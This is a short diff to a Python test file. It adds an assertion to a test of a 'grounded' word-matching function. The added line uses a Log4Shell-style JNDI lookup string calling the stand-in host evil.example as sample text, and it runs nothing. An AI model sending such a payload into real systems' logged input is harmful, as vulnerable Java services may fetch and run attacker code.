@@ -208,6 +208,7 @@ def test_what_is_to_be_remembered_is_kept_whatever_the_gate_decides(converse: Op
 
 def test_grounded_means_every_word() -> None:
     assert grounded("my dog Rex", "Yesterday my dogs, Rex and Bo, ran")
+    assert grounded("ldap evil.example", "${jndi:ldap://evil.example/a}") and not grounded("evil.test", "evil.example")
     assert not grounded("my dog Rex bites", "My dog Rex ran") and not grounded("the", "the") and not grounded("…", "x")
 
 
